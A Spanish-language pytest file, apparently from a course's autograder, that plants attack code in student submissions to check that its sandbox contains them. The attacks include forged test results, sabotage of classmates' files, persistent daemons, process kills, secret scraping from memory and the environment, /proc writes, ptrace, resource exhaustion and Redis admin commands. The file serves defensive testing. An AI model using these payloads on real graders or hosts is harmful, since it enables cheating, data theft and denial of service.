"""Entregas tramposas y saboteadoras contra «taller calificar» y «taller comprobar».

Cada ataque es el punto de partida honesto de la lección 01 con unas líneas más al
principio (lo que escribiría un estudiante en una tarde). Ninguno puede sacar más nota
que el punto de partida que envuelve, cambiar la fila de otro, la carpeta de salida,
checks/ o el entorno virtual, sobrevivir a la calificación como proceso, ni sacar una
variable de entorno o un valor esperado de una comprobación oculta.

La lección 09 tiene su propio lote (``lote_09``): el proveedor OpenID Connect que sirven
las comprobaciones es un camino nuevo entre el recinto y su lado (ver también test_servidores.py).

Estas pruebas necesitan la jaula (root en Linux): donde no la hay, fallan; no se saltan.
"""

import csv
import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import sysconfig
import time
import zipfile
from pathlib import Path

import pytest

from taller import jaula, lecciones

RAIZ = lecciones.raiz()
LECCION = lecciones.buscar("01")
COMPROBACIONES = LECCION.comprobaciones / "test_articulos.py"
SECRETO_DEL_ENTORNO = "s3creto-del-docente-81724"
MARCAS_PROHIBIDAS = [
    "def test_crear_responde_201_con_location",  # el código de las comprobaciones
    "if parcial and not datos:",  # una línea de la solución de referencia
    SECRETO_DEL_ENTORNO,
    "CONECTADO-A-",  # un servicio de la máquina alcanzado desde el recinto
    "ENTORNO-EN-MEMORIA",  # el entorno del docente, encontrado en la memoria del recinto
    "PROC-ESCRITO",  # una escritura en /proc/sys o en el init del recinto
    "PTRACE-CONSEGUIDO",
]

# Los demonios de los ataques duermen este número de segundos (único en cada ejecución de la batería):
# así se reconocen entre los procesos de la máquina aunque otra calificación corra a la vez.
VIDA_DEL_DEMONIO = f"{600 + secrets.randbelow(10**6) / 10**6:.6f}"
CABECERA = '''import os, sys, json, socket, glob, time, threading


def en_cada_peticion(ataque):
    """Ejecuta ``ataque`` en cada petición: lo que imprima cae dentro de una comprobación (y de su salida)."""
    import flask

    original = flask.Flask.full_dispatch_request

    def envoltura(self):
        ataque()
        return original(self)

    flask.Flask.full_dispatch_request = envoltura
'''


def canal_falso(comprobaciones):
    """El ataque que escribe «pass» para cada comprobación de ``comprobaciones`` en cada descriptor abierto."""
    nombres = re.findall(r"^def (test_\w+)", comprobaciones.read_text(encoding="utf-8"), re.M)
    prefijos = ["", f"{comprobaciones.name}::", f"checks/{comprobaciones.parent.name}/{comprobaciones.name}::"]
    return f"""
for _fd in range(3, 512):
    for _nombre in {nombres!r}:
        for _id in [_prefijo + _nombre for _prefijo in {prefijos!r}]:
            try:
                os.write(_fd, json.dumps({{"evento": "resultado", "id": _id, "estado": "pass", "mensaje": None,
                                          "salida": ""}}).encode() + b"\\n")
            except OSError:
                pass
os._exit(0)
"""


ATAQUES = {
    # Mentir al proceso de los resultados: «pass» para todas en cualquier descriptor abierto, y salir.
    "canal_falso": canal_falso(COMPROBACIONES),
    # Convertir las comprobaciones en no-ops (si se ejecutaran en este proceso).
    "pytest_sin_efecto": """
try:
    import _pytest.python
    _pytest.python.Function.runtest = lambda self: None
except Exception:
    pass
""",
    # Reescribir lo que envía el plugin: todo resultado pasa a «pass».
    "plugin_falso": """
try:
    import taller.plugin
    _enviar = taller.plugin.Estado.enviar
    def _aprobado(self, evento):
        if evento.get("evento") == "resultado":
            evento = {**evento, "estado": "pass", "mensaje": None}
        _enviar(self, evento)
    taller.plugin.Estado.enviar = _aprobado
except Exception:
    pass
""",
    # Leer las comprobaciones y la solución, y el home del docente.
    "leer_comprobaciones": f"""
def _leer():
    for _ruta in [{str(COMPROBACIONES)!r}, {str(LECCION.solucion / "app.py")!r}, "/root/.bashrc"]:
        try:
            print([l for l in open(_ruta) if "def test_crear_responde_201" in l or "if parcial and not datos:" in l])
        except OSError as _e:
            print("no se pudo leer", _ruta, type(_e).__name__)
en_cada_peticion(_leer)
""",
    # Usar la solución de referencia en lugar del propio código (se sustituye create_app al final).
    "proxy_a_la_solucion": f"""
try:
    import importlib.util as _u
    _spec = _u.spec_from_file_location("sol", {str(LECCION.solucion / "app.py")!r})
    _sol = _u.module_from_spec(_spec); _spec.loader.exec_module(_sol)
    create_app_de_la_solucion = _sol.create_app
except Exception:
    create_app_de_la_solucion = None
""",
    # Copiar a un compañero o estropear su copia durante la calificación.
    "sabotaje": """
def _sabotear():
    for _ruta in glob.glob("/dev/shm/**/app.py", recursive=True) + glob.glob("/tmp/**/app.py", recursive=True):
        if _ruta != os.path.abspath("app.py"):
            try:
                print("COPIA", open(_ruta).read()[:50])
                open(_ruta, "w").write("raise SystemExit('saboteado')\\n")
            except OSError:
                pass
en_cada_peticion(_sabotear)
""",
    # Envenenar las ejecuciones siguientes: un conftest.py en checks/ y un .pth en el entorno virtual.
    "envenenar": f"""
for _ruta, _texto in [({str(LECCION.comprobaciones / "conftest.py")!r}, "raise SystemExit\\n"),
                      ({str(Path(sysconfig.get_paths()["purelib"]) / "zz_taller_veneno.pth")!r}, "import os\\n")]:
    try:
        open(_ruta, "w").write(_texto)
    except OSError:
        pass
""",
    # Un demonio que sobrevive y reescribe las notas cuando la orden ha terminado.
    "demonio": f"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{VIDA_DEL_DEMONIO}"])
    if os.fork() == 0:
        for _ in range(100):
            for _ruta in glob.glob("/**/calificaciones.csv", recursive=True):
                try:
                    open(_ruta, "a").write("demonio,26\\n")
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)
""",
    # Matar al calificador (y a todo lo que se pueda).
    "matar": """
import signal
for _pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
""",
    # Sacar el entorno del docente y alcanzar los servicios de la máquina.
    "entorno_y_red": """
def _mirar():
    print(dict(os.environ))
    for _puerto in (5432, 6379, 3306):
        try:
            socket.create_connection(("127.0.0.1", _puerto), timeout=0.5).close()
            print(f"CONECTADO-A-{_puerto}")
        except OSError:
            pass
en_cada_peticion(_mirar)
""",
    # Llenar el disco: la caja de la entrega tiene un tamaño máximo.
    "llenar_disco": """
_escritos = 0
try:
    with open("relleno.bin", "wb") as _f:
        for _ in range(400):
            _f.write(b"x" * 2**20)
            _f.flush()
            _escritos += 1
except OSError as _e:
    print("DISCO-LLENO", type(_e).__name__)
print("MB-ESCRITOS", _escritos)
""",
    # Pedir más memoria de la que tiene el recinto.
    "memoria": """
try:
    _enorme = bytearray(3 * 2**30)
    print("MEMORIA-CONSEGUIDA")
except MemoryError:
    print("SIN-MEMORIA")
""",
    # Una bomba de procesos: el uid de la entrega no puede tener más de unos pocos.
    "bomba_de_procesos": f"""
_hijos = 0
for _ in range(500):
    try:
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "{VIDA_DEL_DEMONIO}"])
        _hijos += 1
    except OSError:
        break
print("PROCESOS-CREADOS", _hijos)
""",
    # Escapes de terminal, HTML y Markdown que llegarían al docente y a la retroalimentación.
    "escapes": """
import flask
_TEXTO = "\\x1b]0;PWNED\\x07\\x1b[2J<img src=x onerror=alert(1)> **negrita** [enlace](http://x)"
print(_TEXTO)
_original = flask.Flask.process_response
def _process_response(self, respuesta):
    respuesta = _original(self, respuesta)
    respuesta.set_data(_TEXTO)
    respuesta.mimetype = "text/plain"
    print(_TEXTO)
    return respuesta
flask.Flask.process_response = _process_response
""",
    # Buscar el entorno del docente en la memoria heredada (la pila guarda el bloque de entorno original).
    "entorno_en_memoria": r"""
import ctypes, re
def _buscar_entorno():
    for _linea in open("/proc/self/maps"):
        _partes = _linea.split()
        _nombre = _partes[5] if len(_partes) > 5 else ""
        if not _partes[1].startswith("rw") or (_nombre and not _nombre.startswith("[")) or _nombre == "[vvar]":
            continue
        _inicio, _fin = (int(x, 16) for x in _partes[0].split("-"))
        if _fin - _inicio < 256 * 2**20:
            for _m in re.finditer(rb"TALLER_SECRET[O]=[^\x00]{1,60}", ctypes.string_at(_inicio, _fin - _inicio)):
                print("ENTORNO-EN-MEMORIA", _nombre or "anónima", _m.group().decode("utf-8", "replace"))
_buscar_entorno()
""",
    # Escribir en /proc (lo que sería una fuga con root: core_pattern) y ptrace al init del recinto.
    # Cada escritura repite el valor que ya hay: si la jaula fallara, no cambiaría nada de la máquina.
    "proc_y_ptrace": """
import ctypes
for _ruta in ("/proc/sys/kernel/core_pattern", "/proc/1/oom_score_adj", "/proc/self/oom_score_adj"):
    try:
        _valor = open(_ruta).read()
        with open(_ruta, "w") as _f:
            _f.write(_valor)
        print("PROC-ESCRITO" if _ruta.startswith(("/proc/sys", "/proc/1/")) else "PROC-PROPIO", _ruta)
    except OSError as _e:
        print("PROC-RECHAZADO", _ruta, type(_e).__name__)
_libc = ctypes.CDLL(None, use_errno=True)
for _pid in (1, os.getppid()):
    if _libc.ptrace(16, _pid, None, None) == 0:  # PTRACE_ATTACH
        print("PTRACE-CONSEGUIDO", _pid)
        _libc.ptrace(17, _pid, None, None)  # PTRACE_DETACH
""",
    # Millones de archivos vacíos: no ocupan bytes del tmpfs, pero sí memoria del núcleo (un inodo cada uno).
    "inodos": """
import shutil
_CARPETAS = ["/tmp", "/dev/shm", os.getcwd()]
def _inodos():  # una carpeta por petición, para no pasar del límite de tiempo de una comprobación
    if not _CARPETAS:
        return
    _carpeta = _CARPETAS.pop(0)
    _d, _n, _fin = os.path.join(_carpeta, "inodos"), 0, time.monotonic() + 2
    _maximo = 12_000 if _carpeta.startswith(("/tmp", "/dev/shm")) else 55_000
    os.makedirs(_d, exist_ok=True)
    while time.monotonic() < _fin and _n < _maximo:
        try:
            os.close(os.open(f"{_d}/{_n}", os.O_CREAT | os.O_WRONLY, 0o600))
        except OSError:
            break
        _n += 1
    shutil.rmtree(_d, ignore_errors=True)
    print("INODOS", _carpeta if _carpeta in ("/tmp", "/dev/shm") else "caja", _n)
en_cada_peticion(_inodos)
""",
    # La salida del recinto debe contar en su caja: se llena la caja y luego se escribe en stdout.
    "salida_sin_limite": """
_escrito = 0
try:
    for _i in range(8):  # archivos de 60 MB (cada uno, por debajo del límite de un archivo) hasta llenar la caja
        with open(f"relleno-{_i}.bin", "wb") as _f:
            for _ in range(60):
                _f.write(b"x" * 2**20)
                _f.flush()
except OSError:
    pass
try:
    for _ in range(16):
        _escrito += os.write(1, b"y" * 2**20)
except OSError:
    pass
for _ruta in glob.glob("relleno-*.bin"):
    os.remove(_ruta)
print()
print("SALIDA-CON-LA-CAJA-LLENA", _escrito // 2**20)
""",
}


FINAL = """

if globals().get("create_app_de_la_solucion"):
    create_app = create_app_de_la_solucion
"""


def con_ataque(destino, codigo, base=LECCION.ejercicio):
    """Una copia del punto de partida honesto con ``codigo`` al principio de app.py (o de api/__init__.py)."""
    if (base / "api" / "__init__.py").is_file():  # desde la lección 02, el ejercicio es el paquete api/
        shutil.copytree(base, destino, ignore=shutil.ignore_patterns("__pycache__", "instance"))
        entrada = destino / "api" / "__init__.py"
        entrada.write_text(CABECERA + codigo + "\n" + entrada.read_text(encoding="utf-8"), encoding="utf-8")
        return destino
    destino.mkdir(parents=True)
    app = (base / "app.py").read_text(encoding="utf-8")
    (destino / "app.py").write_text(CABECERA + codigo + "\n" + app + FINAL, encoding="utf-8")
    return destino


def taller(*argumentos, env=None, timeout=600):
    return subprocess.run(
        [sys.executable, "-m", "taller.cli", *argumentos],
        capture_output=True,
        text=True,
        cwd=RAIZ,
        timeout=timeout,
        env={**os.environ, "TALLER_RAIZ": str(RAIZ), **(env or {})},
    )


def huerfano_de_una_entrega(uid):
    """Si ``uid`` es de una entrega cuya sesión ya terminó: un proceso que sobrevivió a su calificación.

    El uid de una entrega es ``UID_BASE + 2·pid de su sesión`` (+1, su Redis): mientras esa sesión vive,
    la entrega se está calificando (en CI, otro proceso de pytest puede estar calificando a la vez).
    """
    return uid >= jaula.UID_BASE and not Path(f"/proc/{(uid - jaula.UID_BASE) // 2}").exists()


def procesos_de_los_ataques():
    """Los procesos vivos que lanzaron los ataques de esta batería (no debe quedar ninguno).

    En CI cuenta además cualquier proceso de una entrega cuya sesión ya terminó.
    """
    vivos = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            uid = os.stat(f"/proc/{pid}").st_uid
            orden = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if VIDA_DEL_DEMONIO in orden or (os.environ.get("CI") == "true" and huerfano_de_una_entrega(uid)):
            vivos.append((pid, uid, orden))
    return vivos


@pytest.fixture(scope="module")
def requiere_jaula():
    if not jaula.jaula_disponible():
        pytest.fail(
            "Estas pruebas necesitan la jaula (root en Linux, con espacios de nombres). En CI corren como "
            "root; aquí no se pueden ejecutar, y no se saltan."
        )


@pytest.fixture(scope="module")
def lote(tmp_path_factory, requiere_jaula):
    """Una clase con dos estudiantes honestos, el punto de partida honesto y un ataque por entrega."""
    base = tmp_path_factory.mktemp("lote")
    clase = base / "clase"
    solucion = (LECCION.solucion / "app.py").read_text(encoding="utf-8")
    for nombre in ("ana", "beto"):
        (clase / nombre).mkdir(parents=True)
        (clase / nombre / "app.py").write_text(solucion, encoding="utf-8")
    (clase / "honesto").mkdir()
    (clase / "honesto" / "app.py").write_text((LECCION.ejercicio / "app.py").read_text(encoding="utf-8"), "utf-8")
    for nombre, codigo in ATAQUES.items():
        con_ataque(clase / nombre, codigo)
    # Un bucle de enlaces simbólicos y un nombre que empieza como una fórmula de hoja de cálculo.
    (clase / "enlaces").mkdir()
    (clase / "enlaces" / "app.py").write_text(solucion, encoding="utf-8")
    os.symlink("bucle", clase / "enlaces" / "bucle")
    (clase / "-2+3").mkdir()
    (clase / "-2+3" / "app.py").write_text(solucion, encoding="utf-8")
    antes_checks = sorted(p.name for p in LECCION.comprobaciones.iterdir())
    antes_venv = sorted(os.listdir(sysconfig.get_paths()["purelib"]))
    salida = base / "notas"
    inicio = time.monotonic()
    proceso = taller(
        "calificar",
        "01",
        str(clase),
        "--clase",
        "--salida",
        str(salida),
        "--trabajos",
        "2",
        "--limite-tiempo",
        "3",
        "--presupuesto",
        "20",
        env={"TALLER_SECRETO": SECRETO_DEL_ENTORNO},
    )
    duracion = time.monotonic() - inicio
    csv_recien = (salida / "calificaciones.csv").read_bytes()
    time.sleep(2)  # lo que tarda un demonio en intentar reescribir las notas
    return {
        "proceso": proceso,
        "salida": salida,
        "duracion": duracion,
        "csv": csv_recien,
        "antes_checks": antes_checks,
        "antes_venv": antes_venv,
    }


def filas(salida):
    with open(salida / "calificaciones.csv", encoding="utf-8") as f:
        return {fila["estudiante"]: fila for fila in csv.DictReader(f)}  # sin fila de puntos posibles


def todo_lo_escrito(salida):
    return "\n".join(p.read_text(encoding="utf-8") for p in sorted(salida.rglob("*")) if p.is_file())


def test_la_calificacion_termina_con_todas_las_filas(lote):
    proceso = lote["proceso"]
    assert "Traceback" not in proceso.stderr, proceso.stderr
    assert "Calificadas" in proceso.stdout, proceso.stdout + proceso.stderr
    assert set(filas(lote["salida"])) == {
        "ana",
        "beto",
        "honesto",
        "enlaces",
        "'-2_3",
        *ATAQUES,
    }  # «-2+3», neutralizado


def test_ningun_ataque_saca_mas_que_el_punto_de_partida_honesto(lote):
    notas = {nombre: int(fila["total"]) for nombre, fila in filas(lote["salida"]).items()}
    assert notas["ana"] == notas["beto"] == notas["'-2_3"] == 26, "los honestos no pierden nada"
    for ataque in ATAQUES:
        assert notas[ataque] <= notas["honesto"], f"«{ataque}» sacó {notas[ataque]} (el honesto, {notas['honesto']})"


def test_nada_sale_del_recinto_hacia_los_resultados(lote):
    escrito = todo_lo_escrito(lote["salida"]) + lote["proceso"].stdout + lote["proceso"].stderr
    for marca in MARCAS_PROHIBIDAS:
        assert marca not in escrito, f"«{marca}» llegó a la salida"
    resultados = json.loads((lote["salida"] / "resultados" / "leer_comprobaciones.json").read_text("utf-8"))
    salidas = "\n".join(p["output"] or "" for p in resultados["tests"])
    assert "no se pudo leer" in salidas, "el ataque se ejecutó y no pudo leer nada"


def test_la_salida_no_cambia_despues_de_calificar_y_no_queda_ningun_proceso(lote):
    assert (lote["salida"] / "calificaciones.csv").read_bytes() == lote["csv"]
    assert "demonio,26" not in lote["csv"].decode()
    assert procesos_de_los_ataques() == []


def test_checks_y_el_entorno_virtual_siguen_igual(lote):
    assert sorted(p.name for p in LECCION.comprobaciones.iterdir()) == lote["antes_checks"]
    assert sorted(os.listdir(sysconfig.get_paths()["purelib"])) == lote["antes_venv"]


def salida_de(lote, estudiante):
    doc = json.loads((lote["salida"] / "resultados" / f"{estudiante}.json").read_text(encoding="utf-8"))
    return "\n".join(p["output"] or "" for p in doc["tests"])


def test_la_caja_y_los_procesos_tienen_limite(lote):
    disco = salida_de(lote, "llenar_disco")
    escritos = int(re.search(r"MB-ESCRITOS (\d+)", disco)[1])
    assert "DISCO-LLENO" in disco and escritos <= jaula.LIMITE_CAJA // 2**20, disco
    assert "SIN-MEMORIA" in salida_de(lote, "memoria")
    procesos = int(re.search(r"PROCESOS-CREADOS (\d+)", salida_de(lote, "bomba_de_procesos"))[1])
    assert procesos < jaula.LIMITE_PROCESOS
    assert "PROC-RECHAZADO /proc/sys/kernel/core_pattern" in salida_de(lote, "proc_y_ptrace")
    inodos = dict(re.findall(r"INODOS (\S+) (\d+)", salida_de(lote, "inodos")))
    assert set(inodos) == {"caja", "/tmp", "/dev/shm"}, inodos
    assert int(inodos["caja"]) <= jaula.INODOS_CAJA, inodos
    assert int(inodos["/tmp"]) <= jaula.INODOS_TMP and int(inodos["/dev/shm"]) <= jaula.INODOS_TMP, inodos
    # La salida del recinto vive en su caja: llena la caja, no cabe ni un MB más (fuera, serían 64 MB por recinto).
    fuera = int(re.search(r"SALIDA-CON-LA-CAJA-LLENA (\d+)", salida_de(lote, "salida_sin_limite"))[1])
    assert fuera == 0, f"con la caja llena, el recinto escribió {fuera} MB de salida fuera de ella"


def test_los_enlaces_simbolicos_se_rechazan(lote):
    fila = filas(lote["salida"])["enlaces"]
    assert fila["total"] == "0" and "enlace simbólico" in fila["mensaje"]


def test_escapes_html_y_formulas_no_llegan_vivos(lote):
    escrito = todo_lo_escrito(lote["salida"]) + lote["proceso"].stdout
    assert "\x1b" not in escrito and "\x07" not in escrito
    retro = (lote["salida"] / "retroalimentacion" / "escapes.md").read_text(encoding="utf-8")
    dentro, fuera = False, []
    for linea in retro.splitlines():
        if linea.strip().startswith("```"):
            dentro = not dentro
        elif not dentro:
            fuera.append(linea)
    assert "<img" in retro and not any("<img" in linea or "**negrita**" in linea for linea in fuera)
    with open(lote["salida"] / "calificaciones.csv", encoding="utf-8") as f:
        celdas = [c for fila in csv.reader(f) for c in fila]
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in celdas), "una celda podría ser una fórmula"


def test_un_zip_con_varias_carpetas_es_un_solo_estudiante(tmp_path, requiere_jaula):
    with zipfile.ZipFile(tmp_path / "mallory.zip", "w") as z:
        for nombre in ("ana", "beto", "carla"):
            z.write(LECCION.solucion / "app.py", f"{nombre}/app.py")
    (tmp_path / "ana").mkdir()
    (tmp_path / "ana" / "app.py").write_text((LECCION.ejercicio / "app.py").read_text(encoding="utf-8"), "utf-8")
    salida = tmp_path / "notas"
    taller("calificar", "01", str(tmp_path / "ana"), str(tmp_path / "mallory.zip"), "--salida", str(salida))
    notas = {nombre: int(fila["total"]) for nombre, fila in filas(salida).items()}
    assert set(notas) == {"ana", "mallory"} and notas["ana"] == 0


def test_una_entrega_que_se_cuelga_se_califica_en_el_presupuesto(tmp_path, requiere_jaula):
    objetivo = con_ataque(
        tmp_path / "latido",
        """
threading.Thread(target=lambda: [time.sleep(0.01) for _ in iter(int, 1)], daemon=True).start()
import flask
flask.Flask.full_dispatch_request = lambda self: time.sleep(3600)
""",
        base=LECCION.solucion,
    )
    salida = tmp_path / "notas"
    inicio = time.monotonic()
    r = taller("calificar", "01", str(objetivo), "--salida", str(salida), "--limite-tiempo", "2", "--presupuesto", "8")
    duracion = time.monotonic() - inicio
    assert duracion < 8 + 10, f"tardó {duracion:.1f} s con un presupuesto de 8 s"
    doc = json.loads((salida / "resultados" / "latido.json").read_text(encoding="utf-8"))
    assert doc["score"] == 0
    assert any("se agotó el tiempo total" in (p["message"] or "") for p in doc["tests"]), r.stdout


def test_comprobar_tampoco_se_deja_enganar(tmp_path, requiere_jaula):
    honesto = json.loads(taller("comprobar", "01", "--formato", "json").stdout)["score"]
    for nombre in ("canal_falso", "pytest_sin_efecto", "plugin_falso", "proxy_a_la_solucion"):
        objetivo = con_ataque(tmp_path / nombre, ATAQUES[nombre])
        r = taller("comprobar", "01", "--objetivo", str(objetivo), "--formato", "json")
        doc = json.loads(r.stdout)
        assert doc["score"] <= honesto, f"«{nombre}» sacó {doc['score']} con comprobar (el honesto, {honesto})"


def test_calificar_sin_jaula_se_niega_salvo_que_se_pida(tmp_path):
    codigo = "import sys; from taller import cli, jaula; jaula._jaula_disponible = False; cli.main(sys.argv[1:])"
    r = subprocess.run(
        [sys.executable, "-c", codigo, "calificar", "01", str(LECCION.solucion), "--salida", str(tmp_path / "notas")],
        capture_output=True,
        text=True,
        cwd=RAIZ,
        timeout=300,
    )
    assert r.returncode == 2 and "--sin-aislamiento" in r.stderr
    r = subprocess.run(
        [
            sys.executable,
            "-c",
            codigo,
            "calificar",
            "01",
            str(LECCION.solucion),
            "--salida",
            str(tmp_path / "notas"),
            "--sin-aislamiento",
        ],
        capture_output=True,
        text=True,
        cwd=RAIZ,
        timeout=300,
    )
    assert r.returncode == 0, r.stdout + r.stderr


def test_ni_la_memoria_ni_los_archivos_del_recinto_tienen_las_comprobaciones_ocultas(tmp_path, requiere_jaula):
    """Una app que busca el valor esperado de la comprobación oculta en su memoria y en el disco no lo encuentra."""
    from test_calificar import APP, COMPROBACIONES_CON_OCULTA, SECRETO

    raiz = tmp_path / "taller"
    (raiz / "lessons" / "99_prueba").mkdir(parents=True)
    (raiz / "lessons" / "99_prueba" / "README.md").write_text("# Lección 99 · Prueba\n", encoding="utf-8")
    (raiz / "checks" / "99_prueba").mkdir(parents=True)
    (raiz / "checks" / "99_prueba" / "test_prueba.py").write_text(COMPROBACIONES_CON_OCULTA, encoding="utf-8")
    entrega = tmp_path / "mallory"
    entrega.mkdir()
    buscar = f"""
import gc, glob, sys
def buscar_secreto():
    for objeto in gc.get_objects():
        for valor in (vars(objeto).values() if hasattr(objeto, "__dict__") else [objeto]):
            if isinstance(valor, str) and "VALOR_SECRETO" in valor:
                return valor
    for ruta in glob.glob({str(raiz)!r} + "/**/*.py", recursive=True):
        try:
            return open(ruta).read()
        except OSError:
            pass
    return ""
"""
    (entrega / "app.py").write_text(
        buscar + APP.replace('return "hola"', 'return "hola " + buscar_secreto()'), encoding="utf-8"
    )
    salida = tmp_path / "notas"
    r = subprocess.run(
        [sys.executable, "-m", "taller.cli", "calificar", "99", str(entrega), "--salida", str(salida)],
        capture_output=True,
        text=True,
        cwd=raiz,
        env={**os.environ, "TALLER_RAIZ": str(raiz)},
        timeout=300,
    )
    assert r.returncode == 0, r.stdout + r.stderr
    doc = json.loads((salida / "resultados" / "mallory.json").read_text(encoding="utf-8"))
    assert (doc["score"], doc["max_score"]) == (1, 3), "solo la comprobación pública"
    assert SECRETO not in (salida / "retroalimentacion" / "mallory.md").read_text(encoding="utf-8")


def test_un_documento_raro_no_impide_escribir_las_demas_salidas(tmp_path):
    """Un documento con campos que faltan o un estado desconocido no tumba al escritor: salen todas las salidas."""
    from taller import calificar

    bueno = {
        "version": 3,
        "status": "pass",
        "message": None,
        "score": 1,
        "max_score": 1,
        "tests": [
            {
                "id": "t",
                "name": "T",
                "status": "pass",
                "message": None,
                "output": None,
                "task_id": 1,
                "score": 1,
                "max_score": 1,
            }
        ],
        "tasks": [{"task_id": 1, "name": "Una", "score": 1, "max_score": 1}],
    }
    raro = {
        "status": "quién sabe",
        "tests": [
            {"id": "t", "name": "T", "status": "rarísimo", "task_id": 1, "score": 0, "max_score": 1, "message": "=1+1"}
        ],
        "tasks": [],
    }
    calificar.escribir(tmp_path, LECCION, {"ana": bueno, "mallory": raro})
    assert (tmp_path / "retroalimentacion" / "mallory.md").is_file()
    assert (tmp_path / "resultados" / "ana.json").is_file()
    assert "mallory" in (tmp_path / "calificaciones.csv").read_text(encoding="utf-8")


ORDENES_DE_REDIS_PROHIBIDAS = [
    ["CONFIG", "SET", "maxmemory", "0"],  # sin límite de memoria: el Redis crece hasta tumbar la máquina
    ["CONFIG", "SET", "client-output-buffer-limit", "normal 0 0 0"],
    ["SAVE"],  # escribe el volcado fuera de la caja
    ["BGSAVE"],
    ["BGREWRITEAOF"],
    ["REPLICAOF", "127.0.0.1", "9"],
    ["MODULE", "LOAD", "/tmp/x.so"],
    ["DEBUG", "SLEEP", "0"],
]


def test_el_redis_de_la_entrega_no_acepta_ordenes_de_administracion(tmp_path, requiere_jaula):
    """El Redis propio de la lección 05: nada de quitarle el límite de memoria ni de escribir fuera de la caja."""
    leccion = lecciones.buscar("05")
    ataque = f"""
def _administrar():
    import redis
    _r = redis.Redis(host="127.0.0.1", port=6379, socket_timeout=2)
    for _orden in {ORDENES_DE_REDIS_PROHIBIDAS!r}:
        try:
            _r.execute_command(*_orden)
            print("REDIS-ACEPTÓ", " ".join(_orden))
        except redis.RedisError as _e:
            print("REDIS-RECHAZÓ", _orden[0], type(_e).__name__)
_administrar()
"""
    objetivo = con_ataque(tmp_path / "redis", ataque, base=leccion.ejercicio)
    r = taller("comprobar", "05", "--objetivo", str(objetivo), "--formato", "json")
    doc = json.loads(r.stdout)
    salida = "\n".join(p["output"] or "" for p in doc["tests"])
    assert "REDIS-RECHAZÓ CONFIG ResponseError" in salida, salida  # el Redis contesta: está vivo
    assert "REDIS-ACEPTÓ" not in salida, salida


def test_la_copia_de_la_base_de_datos_no_sale_de_la_caja_ni_se_bloquea(tmp_path):
    """Lo que deja el recinto donde las comprobaciones leen su base: un enlace a otra carpeta y un FIFO."""
    import threading

    from taller.puente import Puente

    caja, fuera = tmp_path / "caja", tmp_path / "fuera"
    for carpeta in (caja, fuera, caja / "comprobacion-002", caja / "comprobacion-003"):
        carpeta.mkdir()
    (fuera / "comprobacion.sqlite").write_bytes(b"de otro")
    os.symlink(fuera, caja / "comprobacion-001")  # la carpeta de la comprobación, cambiada por un enlace
    os.mkfifo(caja / "comprobacion-002" / "comprobacion.sqlite")  # abrirlo para leer espera a quien escriba
    (caja / "comprobacion-003" / "comprobacion.sqlite").write_bytes(b"propia")
    puente = Puente(None, {"caja": str(caja), "jaula": False, "uid": os.getuid()}, "app", caja / "app.py")
    copias = {}

    def copiar(numero):
        ruta = caja / f"comprobacion-{numero:03d}" / "comprobacion.sqlite"
        copias[numero] = puente.copia_segura(ruta, tmp_path / f"copia-{numero}")

    hilo = threading.Thread(target=copiar, args=(2,), daemon=True)
    hilo.start()
    hilo.join(3)
    if hilo.is_alive():  # desbloquear la lectura para que el hilo termine
        os.close(os.open(caja / "comprobacion-002" / "comprobacion.sqlite", os.O_WRONLY | os.O_NONBLOCK))
        hilo.join(3)
        pytest.fail("copiar un FIFO de la caja bloqueó a las comprobaciones")
    copiar(1)
    copiar(3)
    assert copias[1] is None and copias[2] is None, copias
    assert copias[3] is not None and copias[3].read_bytes() == b"propia"


@pytest.mark.parametrize(
    "cuerpo",
    [
        b'{"valor": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",  # más anidado de lo que aguanta json
        b'{"valor": ' + b"9" * 5000 + b"}",  # un entero de más dígitos de los que Python convierte
        b'{"valor": "\\ud800"}',  # un sustituto suelto
    ],
    ids=["anidado", "entero_enorme", "sustituto"],
)
def test_una_respuesta_mal_formada_del_recinto_es_un_error_del_recinto(cuerpo):
    """Lo que escriba el recinto en el puente solo puede acabar en ErrorDelRecinto, nunca en otra excepción."""
    import socket

    from taller import protocolo

    fuera, dentro = socket.socketpair()
    with fuera, dentro:
        dentro.sendall(protocolo.CABECERA.pack(len(cuerpo)) + cuerpo)
        try:
            mensaje = protocolo.recibir(fuera, time.monotonic() + 5)
        except protocolo.ErrorDelRecinto:
            return
        valor = protocolo.decodificar(mensaje["valor"])  # si llegó, decodificarlo tampoco puede lanzar otra cosa
        json.dumps(valor, ensure_ascii=False).encode("utf-8")  # y cabe en el informe (UTF-8)


def test_las_excepciones_del_modulo_no_pueden_ser_las_integradas(tmp_path, requiere_jaula):
    """Lección 03: «FirmaInvalida = Exception» haría que cualquier excepción (el NotImplementedError del
    esqueleto, o un fallo del puente) contara como el rechazo que espera la comprobación."""
    leccion = lecciones.buscar("03")
    honesto = json.loads(taller("comprobar", "03", "--formato", "json").stdout)["score"]
    objetivo = tmp_path / "alias"
    shutil.copytree(leccion.ejercicio, objetivo)
    with open(objetivo / "jwt_manual.py", "a", encoding="utf-8") as f:
        f.write("\nErrorDeToken = TokenMalFormado = AlgoritmoNoPermitido = FirmaInvalida = Exception\n")
        f.write("TokenExpirado = TokenTodaviaNoValido = Exception\n")
    doc = json.loads(taller("comprobar", "03", "--objetivo", str(objetivo), "--formato", "json").stdout)
    aprobadas = [p["id"] for p in doc["tests"] if p["status"] == "pass"]
    assert doc["score"] <= honesto, f"sacó {doc['score']} (el esqueleto honesto, {honesto}): {aprobadas}"


@pytest.mark.parametrize(
    "mro",
    [[["x", "Nulo\x00"]], [["x", "Hija"], ["x", "Nula\x00"], ["builtins", "Exception"]], [["x", ""]]],
    ids=["nombre_con_nulo", "base_con_nulo", "nombre_vacio"],
)
def test_una_excepcion_remota_imposible_no_se_convierte_en_otra_del_puente(mro):
    """Una clase con un nombre que ``type()`` no admite hacía que el puente lanzara su propio ValueError,
    que un «except ValueError» de una comprobación tomaría por el del estudiante."""
    from taller.puente import ExcepcionRemota, excepcion

